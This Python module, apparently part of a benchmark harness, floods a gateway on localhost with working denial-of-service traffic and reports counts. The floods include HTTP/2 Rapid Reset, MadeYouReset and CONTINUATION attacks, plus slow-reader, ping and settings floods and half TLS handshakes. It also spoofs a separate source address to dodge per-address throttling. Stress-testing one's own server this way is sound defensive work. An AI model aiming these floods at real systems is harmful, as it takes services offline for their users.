"""`python -m bench.hop.floods`: floods a gateway until its standard input ends; prints counts.

A plan comes as a line on standard input. The program writes `ready` when the flood has run for a
moment. It comes from an address of its own, because a gateway may slow down an address that shows
bad tokens. If the gateway closes a connection, the flood opens another one.
"""

import json
import os
import selectors
import socket
import ssl
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import asdict, dataclass
from itertools import repeat

from bench.hop import frames
from bench.hop.client import context
from bench.hop.groups.refusals import badly_signed
from bench.hop.limits import raise_descriptors
from bench.hop.tools import LARGE, PAGE, TAKE

NICENESS = 15  # on the core that it shares with the normal client: it stands for other machines
SOURCE = "127.0.0.2"
SETTLING_SECONDS = 0.5
CONNECT_SECONDS = 10
LOOK_SECONDS = 0.05
IDLE_SECONDS = 0.005  # a turn in which no byte passed is followed by such a rest
STALLED_SECONDS = 1.0  # how long a connection stays that is to send no more
RECEIVE_BYTES = 65_536
PIECE_BYTES = 65_536  # of what a connection has ready to send
BATCH = 50  # requests, or frames, that are written together
WOULD_BLOCK = (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError)
RESET_CODE = (8).to_bytes(4, "big")  # CANCEL
CONTINUATION, PRIORITY = 9, 2
STREAMS_MAX = 100  # at a time on a connection: what a gateway allows
FIELD = b"\0\x08x-padded" + frames.string("p" * 200)
WHOLE = frames.END_HEADERS | frames.END_STREAM
FRESH = frames.PREFACE + frames.settings({})


@dataclass(frozen=True)
class Plan:
    """The gateway's port, a token that it lets through, and the name of a flood."""

    port: int
    token: str
    flood: str


@dataclass
class Toll:
    """What a flood did. `failed`: connections that could not be opened."""

    connected: int = 0
    failed: int = 0
    sent_bytes: int = 0
    received_bytes: int = 0
    seconds: float = 0.0


@dataclass(frozen=True)
class Flood:
    """What each of `connections` sends, piece after piece.

    `protocol`: the one of ALPN; empty for no TLS. `pieces` makes the pieces of a connection; the
    connection closes after the last one. With `reads`, the client reads what comes.
    """

    pieces: Callable[["Requests"], Iterator[bytes]]
    connections: int = 8
    protocol: str = "h2"
    reads: bool = True


@dataclass(frozen=True)
class Requests:
    """Makes the requests of a plan: frames of HTTP/2, and heads of HTTP/1.1."""

    port: int
    token: str

    def block(self, path: str = PAGE.path, method: str = "GET", token: str | None = None) -> bytes:
        """Return a field block."""
        shown = self.token if token is None else token
        return frames.head(method, f"127.0.0.1:{self.port}", path, shown)

    def get(self, number: int, block: bytes) -> bytes:
        """Return a request without a body."""
        return frames.frame(frames.HEADERS, WHOLE, number, block)

    def http1(self) -> bytes:
        """Return a request of HTTP/1.1."""
        lines = f"GET {PAGE.path} HTTP/1.1\r\nhost: 127.0.0.1:{self.port}\r\n"
        return f"{lines}authorization: Bearer {self.token}\r\n\r\n".encode()


def numbers() -> Iterator[int]:
    """Return the numbers of a client's streams."""
    return iter(range(1, 2**31, 2))


def batches(ask: Callable[[int], bytes], size: int = BATCH) -> Iterator[bytes]:
    """Yield what opens a connection, and then so many requests at a time."""
    yield FRESH
    streams = numbers()
    while True:
        yield b"".join([ask(next(streams)) for _ in range(size)])


def reset_at_once(requests: Requests) -> Iterator[bytes]:
    """Reset each request in the packet that brings it (CVE-2023-44487)."""
    block = requests.block()
    return batches(lambda number: requests.get(number, block) + reset(number))


def reset_later(requests: Requests) -> Iterator[bytes]:
    """Reset requests that are on their way to the tool."""
    block, streams = requests.block(), numbers()
    yield FRESH
    while True:
        batch = [next(streams) for _ in range(BATCH)]
        yield b"".join([requests.get(number, block) for number in batch])
        yield b""  # the end of what is written at once
        yield b"".join([reset(number) for number in batch])


def reset(number: int) -> bytes:
    """Return the frame that resets a stream."""
    return frames.frame(frames.RESET, 0, number, RESET_CODE)


def made_to_reset(requests: Requests) -> Iterator[bytes]:
    """Have the gateway reset each request: with a window update of nothing (CVE-2025-8671)."""
    block = requests.block()
    return batches(lambda number: requests.get(number, block) + frames.window_update(number, 0))


def repeated(frame: bytes) -> Callable[[Requests], Iterator[bytes]]:
    """Send a frame again and again."""

    def pieces(requests: Requests) -> Iterator[bytes]:
        del requests
        yield FRESH
        yield from repeat(frame * BATCH)

    return pieces


def continued(requests: Requests) -> Iterator[bytes]:
    """Send a head that never ends (CVE-2024-28182)."""
    more = frames.frame(CONTINUATION, 0, 1, FIELD)
    yield FRESH + frames.frame(frames.HEADERS, frames.END_STREAM, 1, requests.block())
    yield from repeat(more * BATCH)


def large_heads(requests: Requests) -> Iterator[bytes]:
    """Send good requests with 12 KB of fields each."""
    block = requests.block() + FIELD * 55
    return batches(lambda number: requests.get(number, block), 4)


def many_streams(requests: Requests) -> Iterator[bytes]:
    """Send good requests as fast as they are answered or refused."""
    block = requests.block()
    return batches(lambda number: requests.get(number, block))


def bad_tokens(requests: Requests) -> Iterator[bytes]:
    """Show a token with a bad signature, each time another one."""
    signed, _, signature = badly_signed(requests.token).rpartition(".")

    def ask(number: int) -> bytes:
        token = f"{signed}.{number:010d}{signature[10:]}"
        return requests.get(number, requests.block(token=token))

    return batches(ask, 8)


def slow_readers(requests: Requests) -> Iterator[bytes]:
    """Ask for 100 answers of 64 KiB, and read no byte of a body."""
    block = requests.block(LARGE.path)
    shut = frames.PREFACE + frames.settings({frames.INITIAL_WINDOW: 0})
    yield shut + b"".join([requests.get(2 * at + 1, block) for at in range(STREAMS_MAX)])
    yield from stalled()


def stalled() -> Iterator[bytes]:
    """Send no more for a while."""
    until = time.monotonic() + STALLED_SECONDS
    while time.monotonic() < until:
        yield b""


def small_data(requests: Requests) -> Iterator[bytes]:
    """Send bodies in frames of one byte."""
    block = requests.block(TAKE.path, "POST")
    yield FRESH
    for number in numbers():
        yield frames.frame(frames.HEADERS, frames.END_HEADERS, number, block)
        yield frames.frame(frames.DATA, 0, number, b"d") * 1000
        yield frames.frame(frames.DATA, frames.END_STREAM, number)


def pipelined(requests: Requests) -> Iterator[bytes]:
    """Send good requests of HTTP/1.1, and wait for no answer."""
    return repeat(requests.http1() * BATCH)


def handshakes(requests: Requests) -> Iterator[bytes]:
    """Send nothing after the handshake."""
    del requests
    return iter(())


def plain_http(requests: Requests) -> Iterator[bytes]:
    """Speak HTTP to the port of TLS."""
    yield requests.http1()
    yield from stalled()


def half_handshakes(requests: Requests) -> Iterator[bytes]:
    """Send half of the first record of TLS."""
    del requests
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    with suppress(ssl.SSLWantReadError):
        context().wrap_bio(incoming, outgoing).do_handshake()
    hello = outgoing.read()
    yield hello[: len(hello) // 2]
    yield from stalled()


FLOODS = {
    "resets at once": Flood(reset_at_once),
    "resets later": Flood(reset_later),
    "streams that must be reset": Flood(made_to_reset),
    "pings": Flood(repeated(frames.frame(frames.PING, 0, 0, bytes(8)))),
    "settings": Flood(repeated(frames.settings({frames.INITIAL_WINDOW: 65_535}))),
    "window updates": Flood(repeated(frames.window_update(0, 1))),
    "priorities": Flood(repeated(frames.frame(PRIORITY, 0, 1, bytes(5)))),
    "continuations": Flood(continued),
    "large heads": Flood(large_heads),
    "many streams": Flood(many_streams, connections=16),
    "bad tokens": Flood(bad_tokens, connections=16),
    "slow readers": Flood(slow_readers, connections=16, reads=False),
    "small data": Flood(small_data),
    "pipelining": Flood(pipelined, protocol="http/1.1"),
    "handshakes": Flood(handshakes, connections=16),
    "half handshakes": Flood(half_handshakes, connections=400, protocol=""),
    "connections": Flood(handshakes, connections=16, protocol=""),
    "plain HTTP": Flood(plain_http, connections=64, protocol=""),
}


class Connection:
    """A hostile connection, with what it has still to send."""

    def __init__(self, sock: socket.socket, pieces: Iterator[bytes]) -> None:
        self.sock, self.pieces = sock, pieces
        self.is_secure = not isinstance(sock, ssl.SSLSocket)
        self.out = bytearray()
        self.is_over = False

    def fill(self) -> None:
        """Have some bytes ready, up to the end of what is written at once."""
        while len(self.out) < PIECE_BYTES and not self.is_over:
            piece = next(self.pieces, None)
            if piece is None:
                self.is_over = True
            elif piece:
                self.out += piece
            else:
                break


class Flooding:
    """All connections of a flood."""

    def __init__(self, plan: Plan) -> None:
        self.flood = FLOODS[plan.flood]
        self.requests = Requests(plan.port, plan.token)
        self.toll = Toll()
        self.tls = context(self.flood.protocol) if self.flood.protocol else None
        self.selector = selectors.DefaultSelector()
        self.buffer = bytearray(RECEIVE_BYTES)

    def open(self) -> None:
        """Open one more connection. It shakes hands, if at all, when its socket is ready."""
        sock = socket.socket()
        try:
            sock.settimeout(CONNECT_SECONDS)
            sock.bind((SOURCE, 0))
            sock.connect(("127.0.0.1", self.requests.port))
            sock.settimeout(0)
            if self.tls is not None:
                sock = self.tls.wrap_socket(sock, do_handshake_on_connect=False)
        except OSError:
            self.toll.failed += 1
            sock.close()
            time.sleep(LOOK_SECONDS)
            return
        self.toll.connected += 1
        events = selectors.EVENT_READ | selectors.EVENT_WRITE
        connection = Connection(sock, self.flood.pieces(self.requests))
        self.selector.register(sock, events, connection)

    def close(self, connection: Connection) -> None:
        """Close a connection."""
        self.selector.unregister(connection.sock)
        connection.sock.close()

    def advance(self, connection: Connection, events: int) -> bool:
        """Shake hands, read and write; return False if the connection has ended."""
        sock = connection.sock
        try:
            if isinstance(sock, ssl.SSLSocket) and not connection.is_secure:
                sock.do_handshake()
                connection.is_secure = True
            if events & selectors.EVENT_READ and self.flood.reads:
                size = sock.recv_into(self.buffer)
                self.toll.received_bytes += size
                if not size:
                    return False
        except WOULD_BLOCK:
            if not connection.is_secure:
                return True
        except OSError:
            return False
        return self.send(connection)

    def send(self, connection: Connection) -> bool:
        """Write what the socket takes; return False if the connection has ended."""
        connection.fill()
        try:
            if connection.out:
                sent = connection.sock.send(connection.out)
                self.toll.sent_bytes += sent
                del connection.out[:sent]
        except WOULD_BLOCK:
            return True
        except OSError:
            return False
        return bool(connection.out) or not connection.is_over

    def turn(self) -> None:
        """Serve the connections that are ready, and replace those that have ended."""
        for _ in range(self.flood.connections - len(self.selector.get_map())):
            self.open()
        before = self.toll.sent_bytes, self.toll.received_bytes
        for key, events in self.selector.select(LOOK_SECONDS):
            if not self.advance(key.data, events):
                self.close(key.data)
        if before == (self.toll.sent_bytes, self.toll.received_bytes):
            time.sleep(IDLE_SECONDS)

    def run(self) -> None:
        """Flood until standard input has a line, or ends."""
        control = selectors.DefaultSelector()
        control.register(sys.stdin, selectors.EVENT_READ)
        began = time.monotonic()
        is_ready = False
        while not control.select(0):
            self.turn()
            self.toll.seconds = time.monotonic() - began
            if not is_ready and self.toll.seconds > SETTLING_SECONDS:
                print("ready", flush=True)
                is_ready = True
        for key in list(self.selector.get_map().values()):
            self.close(key.data)


def main() -> None:
    """Read the plan, follow it, print the counts."""
    plan = Plan(**json.loads(sys.stdin.readline()))
    os.nice(NICENESS)
    raise_descriptors(FLOODS[plan.flood].connections)
    flooding = Flooding(plan)
    flooding.run()
    print(json.dumps(asdict(flooding.toll)), flush=True)


if __name__ == "__main__":
    main()
